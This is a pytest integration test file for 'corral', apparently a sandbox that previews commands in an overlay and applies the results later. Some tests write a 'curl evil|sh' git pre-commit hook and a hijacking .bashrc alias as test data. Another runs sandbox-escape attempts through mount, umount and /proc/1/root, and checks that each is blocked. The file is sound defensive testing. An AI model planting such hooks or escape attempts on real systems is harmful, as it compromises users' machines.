"""Commands run in a preview: the real workspace stays untouched; apply lands what they saw."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from corral._exceptions import ApplyConflict, PreviewError, UsageError
from corral.preview import Preview
from tests.integration.preview.conftest import SHOW_TREE
from tests.tree_listing import tree

EDITS = """
set -e
echo 'appended' >> a.txt
printf 'new file\\n' > new.txt
mkdir -p newdir/deep && echo e > newdir/deep/e.txt
rm b.txt
rm -r dir/sub
mv dir/c.txt dir/c2.txt
chmod 755 script.sh
ln -sf a.txt link
rm todir && mkdir todir && echo y > todir/y
rm -r tofile && echo now-a-file > tofile
printf '\\000\\001\\002new' > bin.dat
mkdir emptydir && chmod 700 emptydir
"""


def populate(world) -> None:
    world.write("a.txt", "first\n")
    world.write("b.txt", "to delete\n")
    world.write("dir/c.txt", "renamed\n")
    world.write("dir/sub/d.txt", "deep\n")
    world.write("script.sh", "#!/bin/sh\necho hi\n")
    world.write("todir", "a file that becomes a directory\n")
    world.write("tofile/x", "a directory that becomes a file\n")
    world.write("bin.dat", b"\x00\x01\x02old")
    os.symlink("b.txt", os.path.join(world.workspace, "link"))


def test_workspace_is_untouched_and_apply_produces_the_tree_the_command_saw(world, mechanism):
    populate(world)
    before = tree(world.workspace)
    preview = world.preview(mechanism)
    outcome = world.run(preview, EDITS + SHOW_TREE)
    assert outcome.returncode == 0, outcome.stderr
    seen = json.loads(outcome.stdout)
    assert seen != before
    assert tree(world.workspace) == before  # byte for byte: nothing landed
    kinds = {c.path: c.kind for c in preview.changes()}
    assert kinds["dir/c2.txt"] == "renamed"
    assert kinds["b.txt"] == "deleted"
    assert kinds["new.txt"] == "added"
    result = preview.apply()
    assert tree(world.workspace) == seen
    assert result.preview_removed
    assert result.failed == ()


def test_discard_leaves_nothing_behind(world, mechanism):
    populate(world)
    before = tree(world.workspace)
    preview = world.preview(mechanism)
    assert world.run(preview, EDITS).returncode == 0
    preview.discard()
    assert os.listdir(os.path.join(world.state, "previews")) == []
    assert not os.path.exists(os.path.join(world.state, "apply-journals"))
    assert tree(world.workspace) == before
    with open("/proc/self/mountinfo") as f:
        assert world.workspace not in f.read()  # the overlay lived in the sandbox's namespace only


def test_later_commands_see_earlier_changes_in_the_same_preview(world):
    preview = world.preview()
    assert world.run(preview, "echo one > log.txt").returncode == 0
    outcome = world.run(preview, "echo two >> log.txt; cat log.txt")
    assert outcome.stdout == b"one\ntwo\n"
    assert not os.path.exists(os.path.join(world.workspace, "log.txt"))
    assert Preview.open(preview.id, state_dir=world.state).runs == 2


def test_protected_writes_are_refused_live_as_in_a_normal_run(world):
    # a repository that exists before the run (one the run creates is its own)
    os.makedirs(os.path.join(world.workspace, ".git", "hooks"), exist_ok=True)
    preview = world.preview()
    outcome = world.run(
        preview,
        "echo evil > .bashrc; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit; "
        "echo fine > ok.txt",
    )
    assert {v.target for v in outcome.violations} == {
        f"{world.workspace}/.bashrc",
        f"{world.workspace}/.git/hooks/pre-commit",
    }
    assert [c.path for c in preview.changes() if c.new_type == "file"] == ["ok.txt"]


def test_apply_refuses_protected_changes_a_run_was_allowed_to_make(world):
    preview = world.preview()
    loose = world.policy(protect=())  # e.g. a run with the protections removed
    outcome = world.run(
        preview,
        "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit && "
        "echo 'alias ls=evil' > .bashrc && echo fine > ok.txt",
        policy=loose,
    )
    assert outcome.returncode == 0
    assert not outcome.violations
    with pytest.raises(PreviewError, match="protected paths") as info:
        preview.apply()
    assert ".git/hooks/pre-commit" in info.value.message
    assert ".bashrc" in info.value.message
    assert os.listdir(world.workspace) == []  # all or nothing
    preview.apply(allow_protected=(".git/hooks/pre-commit", ".bashrc"))
    assert world.read(".bashrc") == "alias ls=evil\n"
    assert world.read("ok.txt") == "fine\n"


def test_detects_files_changed_in_the_workspace_while_the_preview_ran(world):
    world.write("a.txt", "base\n")
    world.write("b.txt", "base\n")
    world.write("c.txt", "base\n")
    preview = world.preview()

    def edit_real_workspace(_running):
        world.write("a.txt", "user edit during the run\n")

    outcome = world.run(
        preview,
        "echo mine > a.txt; echo mine > b.txt; echo mine > c.txt",
        on_start=edit_real_workspace,
    )
    assert outcome.returncode == 0
    os.unlink(os.path.join(world.workspace, "b.txt"))  # and a deletion after the run
    with pytest.raises(ApplyConflict) as info:
        preview.apply()
    assert set(info.value.paths) == {"a.txt", "b.txt"}
    assert world.read("c.txt") == "base\n"
    result = preview.apply(skip_conflicts=True)
    assert set(result.skipped_conflicts) == {"a.txt", "b.txt"}
    assert world.read("c.txt") == "mine\n"
    assert world.read("a.txt") == "user edit during the run\n"
    preview.apply(force=True)
    assert world.read("a.txt") == "mine\n"
    assert world.read("b.txt") == "mine\n"


def test_detects_a_file_created_in_the_workspace_at_a_path_the_command_created(world):
    preview = world.preview()
    assert world.run(preview, "echo mine > new.txt").returncode == 0
    world.write("new.txt", "the user's new file\n")
    with pytest.raises(ApplyConflict) as info:
        preview.apply()
    assert info.value.paths == ("new.txt",)


def test_the_none_backend_cannot_run_a_preview(world):
    preview = world.preview()
    with pytest.raises(UsageError, match="cannot run a preview"):
        world.run(preview, "true", policy=world.policy().replace(backend="none"))


def test_audit_record_names_the_preview(world):
    preview = world.preview()
    world.run(preview, "true")
    with open(os.path.join(world.state, "audit.jsonl")) as f:
        record = json.loads(f.readlines()[-1])
    assert record["preview"] == preview.id


def test_a_preview_cannot_run_two_commands_at_once(world):
    preview = world.preview()
    with preview.hold(), pytest.raises(PreviewError, match="another corral command"):
        world.run(preview, "true")


def test_the_sandbox_cannot_reach_the_real_workspace_or_other_previews(world):
    world.write("a.txt", "real\n")
    other = world.preview()
    assert world.run(other, "echo other > o.txt").returncode == 0
    other_upper = tree(os.path.join(other.path, "upper"))
    before = tree(world.workspace)
    preview = world.preview()
    attack = f"""
    ls -A {world.state} 2>&1; echo "state: $?"
    echo tamper > {other.path}/upper/o.txt 2>&1; echo "other upper: $?"
    echo tamper > {other.path}/upper/injected.txt 2>&1; echo "inject: $?"
    umount {world.workspace} 2>&1; echo "umount: $?"
    mount -t tmpfs none {world.workspace} 2>&1; echo "mount: $?"
    echo via-proc > /proc/1/root{world.workspace}/a.txt 2>&1; echo "proc: $?"
    cat /proc/self/mountinfo | grep -c upperdir; echo "mountinfo done"
    """
    outcome = world.run(preview, attack)
    text = outcome.stdout.decode()
    assert "state: 0" in text  # the state dir is an empty, read-only tmpfs in the sandbox
    assert "other upper: 0" not in text
    assert "inject: 0" not in text
    assert "umount: 0" not in text
    assert "mount: 0" not in text
    assert tree(world.workspace) == before
    assert tree(os.path.join(other.path, "upper")) == other_upper
    # what the command could write went to its own preview only
    assert {c.path for c in preview.changes()} <= {"a.txt"}


def cli(world, *args, check=False):
    return subprocess.run(
        [sys.executable, "-m", "corral", *args],
        capture_output=True,
        text=True,
        cwd=world.workspace,
        env=world.cli_env(),
        check=check,
    )


NO_LIMITS = ["--memory", "none", "--pids", "none"]


def test_apply_on_success_applies_nothing_when_the_command_fails(world):
    world.write("a.txt", "base\n")
    before = tree(world.workspace)
    result = cli(
        world,
        "preview",
        *NO_LIMITS,
        "--apply-on-success",
        "--",
        "sh",
        "-c",
        "echo changed > a.txt; echo new > b.txt; exit 3",
    )
    assert result.returncode == 3, result.stderr
    assert "nothing applied" in result.stderr
    assert tree(world.workspace) == before
    assert os.listdir(os.path.join(world.state, "previews")) == []  # dropped


def test_apply_on_success_applies_everything_when_the_command_passes(world):
    world.write("a.txt", "base\n")
    result = cli(
        world,
        "preview",
        *NO_LIMITS,
        "--apply-on-success",
        "--",
        "sh",
        "-c",
        "echo changed > a.txt; echo new > b.txt; rm -f gone.txt",
    )
    assert result.returncode == 0, result.stderr
    assert world.read("a.txt") == "changed\n"
    assert world.read("b.txt") == "new\n"
    assert [
        n for n in os.listdir(os.path.join(world.state, "previews")) if n.startswith("pv-")
    ] == []


def test_cli_review_cycle_with_keep_and_id(world):
    world.write("a.txt", "base\n")
    first = cli(world, "preview", *NO_LIMITS, "--", "sh", "-c", "echo one > log.txt")
    assert first.returncode == 0, first.stderr
    preview_id = first.stderr.split("preview ")[1].split()[0]
    second = cli(
        world, "preview", *NO_LIMITS, "--id", preview_id, "--", "sh", "-c", "echo two >> log.txt"
    )
    assert second.returncode == 0, second.stderr
    listing = cli(world, "previews", "--json", check=True)
    assert [p["id"] for p in json.loads(listing.stdout)] == [preview_id]
    stat = cli(world, "diff", "--stat", "--color", "never", check=True)
    assert " A log.txt | +2 -0" in stat.stdout
    data = json.loads(cli(world, "diff", preview_id, "--json", check=True).stdout)
    assert [c["path"] for c in data["changes"]] == ["log.txt"]
    assert data["conflicts"] == []
    applied = cli(world, "apply")
    assert applied.returncode == 0, applied.stderr
    assert world.read("log.txt") == "one\ntwo\n"
    assert cli(world, "diff").returncode == 125  # consumed


def test_a_preview_without_changes_is_dropped(world):
    result = cli(world, "preview", *NO_LIMITS, "--", "true")
    assert result.returncode == 0
    assert "no changes (discarded)" in result.stderr


def _unprivileged_problem() -> str | None:
    import shutil as sh

    if os.geteuid() != 0:
        return "needs root to start a process as another user (setpriv)"
    if sh.which("setpriv") is None:
        return "setpriv is not installed (util-linux)"
    if not os.path.exists("/usr/bin/python3"):
        return "no /usr/bin/python3 for the unprivileged user"
    probe = subprocess.run(
        ["/usr/bin/python3", "-c", "import sys; print(sys.version_info >= (3, 11))"],
        capture_output=True,
        text=True,
        check=False,
    )
    if probe.stdout.strip() != "True":
        return "/usr/bin/python3 is older than 3.11"
    import corral
    from tests.conftest import unreadable_for

    return unreadable_for(65534, os.path.dirname(os.path.dirname(corral.__file__)))


@pytest.mark.skipif(_unprivileged_problem() is not None, reason=_unprivileged_problem() or "")
def test_an_unprivileged_user_previews_through_a_user_namespace_overlay(tmp_path_factory):
    """Not root: the helper mounts the overlay in its own user namespace (userxattr)."""
    import shutil as sh
    import tempfile

    import corral
    from tests.integration.preview.conftest import World

    uid = 65534
    root = tempfile.mkdtemp(prefix="corral-nobody-")  # pytest's tmp dirs are private to root
    os.chmod(root, 0o755)
    try:
        _unprivileged_cycle(World(root), uid, corral)
    finally:
        sh.rmtree(root, ignore_errors=True)


def _unprivileged_cycle(world, uid, corral):
    world.write("a.txt", "base\n")
    world.write("sub/s.txt", "s\n")
    home = os.path.join(world.root, "home")
    os.makedirs(home)
    for directory, _dirs, files in os.walk(world.root):
        for name in [directory, *(os.path.join(directory, f) for f in files)]:
            os.lchown(name, uid, uid)
    os.chmod(world.root, 0o755)
    src = os.path.dirname(os.path.dirname(corral.__file__))
    env = {
        "HOME": home,
        "XDG_STATE_HOME": world.xdg_state,
        "PYTHONPATH": src,
        "PATH": "/usr/local/bin:/usr/bin:/bin",
        "CORRAL_SERVER": "off",
    }

    def as_user(*args):
        return subprocess.run(
            [
                "setpriv",
                f"--reuid={uid}",
                f"--regid={uid}",
                "--clear-groups",
                "/usr/bin/python3",
                "-m",
                "corral",
                *args,
            ],
            capture_output=True,
            text=True,
            cwd=world.workspace,
            env=env,
            check=False,
        )

    before = tree(world.workspace)
    run = as_user(
        "preview",
        *NO_LIMITS,
        "--mechanism",
        "overlay",
        "--",
        "sh",
        "-c",
        "echo more >> a.txt; rm -rf sub; mkdir sub; echo t > sub/t.txt; echo x > .bashrc; id -u",
    )
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == str(uid)
    assert "(overlay)" in run.stderr
    assert "blocked write" in run.stderr
    assert tree(world.workspace) == before
    stat = as_user("diff", "--stat", "--color", "never")
    assert stat.stdout.splitlines()[1:] == [
        " M a.txt | +1 -0",
        " D sub/s.txt",
        " A sub/t.txt | +1 -0",
        " 1 added, 1 modified, 1 deleted; 2 line(s) added, 0 removed",
    ]
    applied = as_user("apply")
    assert applied.returncode == 0, applied.stderr
    assert world.read("a.txt") == "base\nmore\n"
    assert os.listdir(os.path.join(world.workspace, "sub")) == ["t.txt"]
    leftovers = [n for n in os.listdir(os.path.join(world.state, "previews")) if n != ".apply.lock"]
    assert leftovers == []  # the overlay's mode-000 work dir was removed too


def test_a_kept_preview_continues_after_apply_without_false_conflicts(world):
    world.write("a.txt", "base\n")
    preview = world.preview()
    assert world.run(preview, "echo one >> a.txt; echo new > b.txt").returncode == 0
    first = preview.apply(keep=True)
    assert not first.preview_removed
    assert world.read("a.txt") == "base\none\n"
    assert world.run(preview, "echo two >> a.txt; echo c > c.txt").returncode == 0
    assert [(c.kind, c.path) for c in preview.changes()] == [
        ("modified", "a.txt"),
        ("added", "c.txt"),
    ]
    preview.apply()
    assert world.read("a.txt") == "base\none\ntwo\n"
    world_tree = tree(world.workspace)
    assert set(world_tree) == {"a.txt", "b.txt", "c.txt"}


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to another owner")
def test_apply_as_root_keeps_the_owner_of_the_users_files(world):
    path = world.write("a.txt", "base\n")
    os.chown(path, 1234, 1234)
    os.chown(world.workspace, 1234, 1234)
    preview = world.preview()
    assert world.run(preview, "echo more >> a.txt; echo n > new.txt; mkdir d").returncode == 0
    preview.apply()
    for name in ("a.txt", "new.txt", "d"):
        st = os.stat(os.path.join(world.workspace, name))
        assert (st.st_uid, st.st_gid) == (1234, 1234), name


def test_doctor_names_the_preview_mechanism_after_a_smoke_preview(world):
    result = cli(world, "doctor", "--json", check=True)
    rows = {row["name"]: row for row in json.loads(result.stdout)["features"]}
    for mechanism in ("overlay", "fuse-overlayfs", "copy"):
        assert f"preview mechanism {mechanism}" in rows
    assert rows["preview mechanism copy"]["ok"] is True
    preview_row = rows["preview (corral preview)"]
    assert preview_row["ok"] is True, preview_row
    assert preview_row["detail"].startswith("uses overlay: smoke run ok")
